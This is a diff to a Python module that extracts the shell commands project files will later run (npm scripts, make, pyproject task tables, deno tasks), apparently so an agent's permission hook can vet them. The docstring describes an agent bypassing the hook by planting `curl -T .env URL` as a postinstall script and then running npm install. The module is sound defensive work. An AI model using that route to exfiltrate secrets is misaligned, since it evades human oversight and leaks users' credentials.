@@ -1,5 +1,6 @@
 """The shell commands a project file holds that a tool runs later (npm's scripts, make's recipes, just's, tox's
-`commands`, a Dockerfile's RUN, pre-commit's `entry`, a Procfile's, a notebook's `!cmd` and `%%bash` cells).
+`commands`, a Dockerfile's RUN, pre-commit's `entry`, a Procfile's, a notebook's `!cmd` and `%%bash` cells, the task
+tables of pyproject.toml (hatch, pdm, poe, rye, taskipy), tox's settings in setup.cfg, deno's tasks).
 
 An agent that writes `"postinstall": "curl -T .env URL"` into package.json and then runs `npm install` sends what it
 could not send by typing the command: the hook decides each such command as if the agent had typed it when the file
@@ -12,10 +13,16 @@ from __future__ import annotations
 import json
 import re
 import shlex
+import tomllib
 from typing import Any, Callable
 
 _MAKE = re.compile(r"^(?:GNUmakefile|[Mm]akefile|.+\.mk)$")
 _DOCKER = re.compile(r"^(?:Dockerfile|Containerfile)(?:\..+)?$|\.(?:[Dd]ockerfile|[Cc]ontainerfile)$")
+
+
+# What a reading that cannot follow the file stands for: code whose text the analysis does not see (a literal
+# `eval x` would be followed: it runs `x`, an unlisted program, which asks nothing).
+UNREAD = 'eval "$UNREAD_RUN_FILE"'
 
 
 def run_file_kind(path: str) -> str:
@@ -37,7 +44,20 @@ def run_file_kind(path: str) -> str:
         return "procfile"
     if name.endswith(".ipynb"):
         return "notebook"
+    if name == "pyproject.toml":
+        return "pyproject"
+    if name == "setup.cfg":
+        return "setup_cfg"
+    if name in ("deno.json", "deno.jsonc"):
+        return "deno"
     return ""
+
+
+def shell_write_asks(path: str) -> bool:
+    """Whether a shell command that writes the file at `path` needs a human (its new commands are not read there).
+    pyproject.toml and setup.cfg are edited by shell all the time (a version bumped with `sed -i`): their code
+    settings are [settings_code]'s, read in the shell command's text; the Write and Edit tools read their task tables."""
+    return run_file_kind(path) not in ("", "pyproject", "setup_cfg")
 
 
 def run_file_commands(path: str, text: str) -> list[str]:
@@ -51,16 +71,80 @@ def _joined(text: str) -> list[str]:
     return re.sub(r"\\\r?\n", " ", text).splitlines()
 
 
-def _json_scripts(text: str) -> list[str]:
+def _json_scripts(text: str, table: str = "scripts") -> list[str]:
     try:
         doc = json.loads(text)
     except ValueError:
         return []               # npm and composer refuse a file that is not JSON: nothing runs
-    scripts = doc.get("scripts") if isinstance(doc, dict) else None
-    if not isinstance(scripts, dict):
+    scripts = doc.get(table) if isinstance(doc, dict) else None
+    return _task_commands(scripts) if isinstance(scripts, dict) else []
+
+
+def _deno(text: str) -> list[str]:
+    try:
+        json.loads(text)
+    except ValueError:
+        return [UNREAD]    # deno reads JSON with comments, not read here
+    return _json_scripts(text, "tasks")
+
+
+# In a task table, the keys whose values are commands a runner runs in a shell or as a program (poe's `cmd`, `shell`,
+# `sequence`; pdm's `cmd`, `shell`, `composite`; deno's `command`); `script`, `call`, `expr` name Python callables.
+_COMMAND_KEYS = ("cmd", "shell", "sequence", "composite", "command", "commands")
+
+
+def _task_commands(tasks: dict[str, Any], depth: int = 0) -> list[str]:
+    """The commands of a task table's values: a string, a list of them, or a table of _COMMAND_KEYS."""
+    out: list[str] = []
+    for value in tasks.values():
+        out += _command_values(value, depth)
+    return out
+
+
+def _command_values(value: Any, depth: int) -> list[str]:
+    if isinstance(value, str):
+        return [value]
+    if depth > 4:
+        return [UNREAD]
+    if isinstance(value, list):
+        return [c for v in value for c in _command_values(v, depth + 1)]
+    if isinstance(value, dict):
+        return [c for k in _COMMAND_KEYS if k in value for c in _command_values(value[k], depth + 1)]
+    return []
+
+
+# Under [tool.*] of pyproject.toml, the tables whose values a task runner runs (hatch's envs' `scripts`, pdm's and
+# rye's `scripts`, poe's and taskipy's `tasks`) and hatch's install commands; poetry's `scripts` are entry points
+# (module:function), not commands.
+_TASK_TABLES = ("scripts", "tasks")
+_COMMAND_LISTS = ("pre-install-commands", "post-install-commands")
+
+
+def _pyproject(text: str) -> list[str]:
+    try:
+        doc = tomllib.loads(text)
+    except tomllib.TOMLDecodeError:
+        return []               # the tools refuse a file that is not TOML: nothing runs
+    tool = doc.get("tool")
+    if not isinstance(tool, dict):
         return []
-    return [s for v in scripts.values() for s in ([v] if isinstance(v, str) else v if isinstance(v, list) else [])
-            if isinstance(s, str)]
+    out = [c for name, body in tool.items() if name != "poetry" for c in _tool_tables(body, 0)]
+    legacy = tool.get("tox", {}).get("legacy_tox_ini") if isinstance(tool.get("tox"), dict) else None
+    return out + (_tox(legacy) if isinstance(legacy, str) else [])
+
+
+def _tool_tables(node: Any, depth: int) -> list[str]:
+    if not isinstance(node, dict) or depth > 5:
+        return []
+    out: list[str] = []
+    for key, value in node.items():
+        if key in _TASK_TABLES and isinstance(value, dict):
+            out += _task_commands(value)
+        elif key in _COMMAND_LISTS:
+            out += _command_values(value, 0)
+        else:
+            out += _tool_tables(value, depth + 1)
+    return out
 
 
 _MAKE_SET = re.compile(r"^(?:export\s+|override\s+)?([A-Za-z_.][\w.-]*)\s*(:{1,3}=|\?=|\+=|!=|=)\s*(.*)$")
@@ -115,7 +199,7 @@ def _make_words(command: str, values: dict[str, str], depth: int = 0, budget: li
         return "target" if len(name) <= 1 or name[0] in "@<^*?%+|" else ""
     out = re.sub(r"\$\$|\$\(([^()]*)\)|\$\{([^{}]*)\}|\$(.)", sub, command)
     if "\1" in out:
-        return "eval x" if depth == 0 else out
+        return UNREAD if depth == 0 else out
     return out.replace("\0", "$") if depth == 0 else out
 
 
@@ -253,4 +337,5 @@ def cell_commands(source: str) -> list[str]:
 _READERS: dict[str, Callable[[str], list[str]]] = {
     "json_scripts": _json_scripts, "make": _make, "just": _just, "tox": _tox, "docker": _docker,
     "pre_commit": _pre_commit, "procfile": _procfile, "notebook": _notebook,
+    "pyproject": _pyproject, "setup_cfg": _tox, "deno": _deno,
 }
